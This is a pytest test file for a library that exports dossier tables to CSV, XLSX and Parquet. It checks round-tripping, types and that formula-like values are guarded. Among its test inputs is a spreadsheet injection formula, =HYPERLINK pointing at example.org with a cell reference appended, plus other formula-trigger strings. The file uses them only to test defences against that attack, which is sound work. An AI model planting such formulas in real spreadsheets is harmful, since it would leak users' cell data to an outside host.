"""CSV, XLSX and Parquet hold the same tables, and their ids come back."""

import csv
import io
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import recoupe
from recoupe.model.dossier import Dossier, Problem
from recoupe.writers.exports import make_tables
from recoupe.writers.exports.csv_files import guard, render_csv, unguard
from recoupe.writers.exports.tables import Table, make_table
from recoupe.writers.exports.xlsx import render_xlsx
from tests.writers.exports.dossiers import NAMES, ROOT, all_ids, dossier
from tests.writers.sample import make_dossier

FORMULA = '=HYPERLINK("http://example.org/"&A1,"open")'


def read_csv(folder: Path) -> dict[str, list[dict[str, Any]]]:
    return {
        path.stem: [
            {name: unguard(cell) for name, cell in row.items()}
            for row in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
        ]
        for path in folder.iterdir()
    }


def read_xlsx(folder: Path) -> dict[str, list[dict[str, Any]]]:
    book = openpyxl.load_workbook(next(folder.iterdir()))
    tables = {}
    for sheet in book:
        names, *rows = sheet.values
        tables[sheet.title] = [dict(zip(names, row, strict=True)) for row in rows]
    return tables


def read_parquet(folder: Path) -> dict[str, list[dict[str, Any]]]:
    tables = {}
    for path in folder.iterdir():
        found = duckdb.sql(f"SELECT * FROM '{path}'")
        tables[path.stem] = [dict(zip(found.columns, row, strict=True)) for row in found.fetchall()]
    return tables


READERS = {"csv": read_csv, "xlsx": read_xlsx, "parquet": read_parquet}


def written(made: Dossier, to: str, folder: Path) -> dict[str, list[dict[str, Any]]]:
    folder.mkdir(exist_ok=True)
    recoupe.export(made, to, folder / "d.xlsx" if to == "xlsx" else folder)
    return READERS[to](folder)


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("to", READERS)
def test_ids_come_back(name: str, to: str, tmp_path: Path) -> None:
    made = dossier(name)
    tables = written(made, to, tmp_path)
    kinds = ("articles", "entities", "findings", "statements", "figures", "events")
    assert {row["id"] for kind in kinds for row in tables[kind]} == all_ids(made)
    members = [(f.id, m.article, m.ref) for f in made.findings for m in f.members]
    assert [(row["finding"], row["article"], row["ref"]) for row in tables["members"]] == members


@pytest.mark.parametrize("to", READERS)
def test_words_come_back_from_their_offsets(to: str, tmp_path: Path) -> None:
    made = dossier("flood")
    texts = {article.id: article.text for article in made.articles}
    for row in written(made, to, tmp_path)["figures"]:
        assert texts[row["article"]][int(row["start"]) : int(row["end"])] == row["text"]


def test_every_table_has_rows_somewhere_and_says_what_a_row_is() -> None:
    both = {t.name: t for name in NAMES for t in make_tables(dossier(name)) if t.rows}
    assert set(both) == {table.name for table in make_tables(dossier("flood"))}
    assert all(table.about for table in both.values())


def test_parquet_has_types() -> None:
    page = io.BytesIO()
    recoupe.export(dossier("flood"), "parquet", page, table="figures")
    assert page.getvalue()[:4] == b"PAR1"


def test_parquet_keeps_lists_and_numbers(tmp_path: Path) -> None:
    tables = written(dossier("flood"), "parquet", tmp_path)
    assert all(isinstance(row["origins"], list) for row in tables["findings"])
    assert any(isinstance(row["low"], float) for row in tables["figures"])
    assert all(isinstance(row["directed"], bool) for row in tables["copies"])


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1", "'quoted'", "''"])
def test_what_looks_like_a_formula_is_guarded_and_comes_back(text: str) -> None:
    assert guard(text).startswith("'")
    assert unguard(guard(text)) == text


@given(st.text())
def test_guarding_is_undone(text: str) -> None:
    assert unguard(guard(text)) == text
    assert guard(text)[:1] not in set("=+-@\t\r")


@given(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])), min_size=1))
def test_any_words_come_back_from_csv(words: list[str]) -> None:
    table = make_table("t", "", "id n:i", [(word, 1) for word in words])
    rows = list(csv.reader(io.StringIO(render_csv(table).decode(), newline="")))
    assert [unguard(row[0]) for row in rows[1:]] == words


@pytest.mark.parametrize("text", [FORMULA, "a\0b\x07\ud800", "http://example.org/" + "x" * 3000, "123", "_x0041_"])
def test_a_workbook_takes_hostile_words_as_words(text: str) -> None:
    page = io.BytesIO(render_xlsx([make_table("t", "", "id", [(text,)])], FORMULA))
    cell = openpyxl.load_workbook(page)["t"]["A2"]
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    assert text[:1] == str(cell.value)[:1]


def test_a_cell_too_long_for_a_workbook_is_cut_and_shows_it() -> None:
    page = io.BytesIO(render_xlsx([make_table("t", "", "id", [("é" * 40_000,)])], ""))
    value = str(openpyxl.load_workbook(page)["t"]["A2"].value)
    assert len(value) == 32_767
    assert value.endswith("é […]")


def test_a_table_too_long_for_a_workbook_is_told() -> None:
    long = Table("t", "", make_table("t", "", "id", []).columns, (("x",),) * 1_048_576)
    with pytest.raises(recoupe.RecoupeError, match="Export to csv or parquet"):
        render_xlsx([long], "")


def test_problems_are_in_the_tables(tmp_path: Path) -> None:
    made = replace(make_dossier(), problems=(Problem(FORMULA, "It is bad.", "Mend it."),))
    assert written(made, "csv", tmp_path)["problems"][0]["source"] == FORMULA
    assert (tmp_path / "problems.csv").read_text(encoding="utf-8").splitlines()[1].startswith("\"'=HYPERLINK")


def test_a_folder_may_be_a_zip_file(tmp_path: Path) -> None:
    recoupe.export(dossier("strike"), "csv", tmp_path / "d.zip")
    with zipfile.ZipFile(tmp_path / "d.zip") as archive:
        assert archive.testzip() is None
        assert archive.namelist() == [f"{table.name}.csv" for table in make_tables(dossier("strike"))]


@pytest.mark.parametrize("to", ["csv", "xlsx", "parquet"])
def test_the_same_dossier_gives_the_same_bytes(to: str) -> None:
    pages = (io.BytesIO(), io.BytesIO())
    for page in pages:
        recoupe.export(dossier("strike"), to, page, table=None if to == "xlsx" else "figures")
    assert pages[0].getvalue() == pages[1].getvalue()


def test_every_table_is_documented() -> None:
    page = (ROOT / "docs" / "exports.md").read_text(encoding="utf-8")
    missing = [t.name for t in make_tables(dossier("strike")) if f"| `{t.name}` | {t.about}" not in page]
    assert missing == []
